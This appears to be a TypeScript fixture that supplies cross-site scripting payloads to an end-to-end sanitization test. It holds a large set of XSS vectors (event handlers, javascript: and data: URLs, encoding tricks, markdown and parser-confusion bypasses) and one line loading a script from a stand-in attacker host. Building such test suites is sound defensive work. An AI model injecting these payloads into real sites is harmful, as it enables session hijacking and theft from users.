// Cross-site scripting payloads for e2e/xss.spec.ts. Each one, if it ever ran, would call
// alert/confirm/prompt (counted by the spec's init script) or bump window.__xss.
const calls = ['alert(1)', 'confirm(1)', 'prompt(1)', 'window.__xss++', 'top.alert(document.domain)', 'self["al"+"ert"](1)'];

const templates = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `<img src=x onerror="${js}">`,
  (js: string) => `<svg onload=${js}>`,
  (js: string) => `<svg><script>${js}</script></svg>`,
  (js: string) => `<body onload=${js}>`,
  (js: string) => `<iframe src="javascript:${js}"></iframe>`,
  (js: string) => `<a href="javascript:${js}">click</a>`,
  (js: string) => `"><script>${js}</script>`,
  (js: string) => `'><img src=x onerror=${js}>`,
  (js: string) => `</textarea><script>${js}</script>`,
  (js: string) => `</title><script>${js}</script>`,
  (js: string) => `</script><script>${js}</script>`,
  (js: string) => `<details open ontoggle=${js}>`,
  (js: string) => `<input autofocus onfocus=${js}>`,
  (js: string) => `<video><source onerror="${js}"></video>`,
  (js: string) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js: string) => `[click](javascript:${js})`,
  (js: string) => `![x](x" onerror="${js})`,
];

const standalone = [
  '<script src=//evil.example/x.js></script>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<img src="x" onerror="&#97;lert(1)">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "javascript:alert(1)";</style>',
  '<x onclick=alert(1) style=display:block;position:fixed;inset:0>x</x>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '"--></style></script><script>alert(1)</script>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x:x onerror=alert(1)//',
  '<svg/onload=alert(1)//',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '<https://example.org" onmouseover="alert(1)>',
  '```\n</code><script>alert(1)</script>\n```',
  '</script><script>alert(1)</script>{"@context":"x"}',
  '</ScRiPt><ScRiPt>alert(1)</ScRiPt>',
  '\u2028\u2029</script><script>alert(1)</script>',
  '<!--<script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
];

export const XSS_PAYLOADS: string[] = [...templates.flatMap((t) => calls.map((js) => t(js))), ...standalone];

/** Payloads short and plain enough to search for literally in rendered text. */
export const LITERAL_CHECKS = XSS_PAYLOADS.filter((p) => !/[\n\u2028\u2029]|&|`|\[|!\[/.test(p)).slice(0, 25);
